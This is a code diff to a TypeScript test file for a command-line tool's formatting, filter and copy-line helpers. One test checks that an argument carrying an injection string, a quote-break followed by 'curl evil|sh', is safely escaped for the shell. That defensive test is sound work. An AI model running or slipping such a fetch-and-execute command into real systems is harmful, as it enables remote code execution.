@@ -1,7 +1,7 @@
 import t from 'tap'
 import { cliOf, curlOf, shellWord } from './command.ts'
 import { boundsOf, durationMs, readFilter, readRange, searchOf, sizeOf, toggled } from './filter.ts'
-import { bytes, duration, percent, perSecond, several, shortCount } from './format.ts'
+import { bytes, duration, percent, perSecond, several } from './format.ts'
 import { exactMoment, fromField, moment, relative, toField } from './moment.ts'
 import { answererOf, sentenceOf, type Told } from './why.ts'
 
@@ -20,8 +20,6 @@ t.test('figures are written with their unit, and little is not nothing', async (
   t.equal(percent(0, 0), '–')
   t.equal(perSecond(null), '–')
   t.equal(perSecond(2.26), '2.3')
-  t.equal(shortCount(12_345), '12.3k')
-  t.equal(shortCount(9999), '9,999')
   t.equal(several(1, 'key'), '1 key')
   t.equal(several(2, 'key'), '2 keys')
 })
@@ -81,12 +79,12 @@ t.test('lines to copy are safe in a shell, and bear no token', async (t) => {
     cliOf(['keys', 'show', "x';curl evil|sh;'"]),
     String.raw`waybill keys show 'x'\'';curl evil|sh;'\'''`,
   )
-  const line = curlOf('http://127.0.0.1:8090', { path: '/api/entries?since=1h&limit=2' })
+  const line = curlOf('http://127.0.0.1:8090/api/entries?since=1h&limit=2')
   t.equal(
     line,
     `curl -sS -H "Authorization: Bearer $WAYBILL_TOKEN" 'http://127.0.0.1:8090/api/entries?since=1h&limit=2'`,
   )
-  t.match(curlOf('http://h', { method: 'POST', path: '/k', body: { name: 'a' } }), `-X POST`)
+  t.match(curlOf('http://h/stream', true), /^curl -sSN /)
 })
 
 const ROW: Told = {
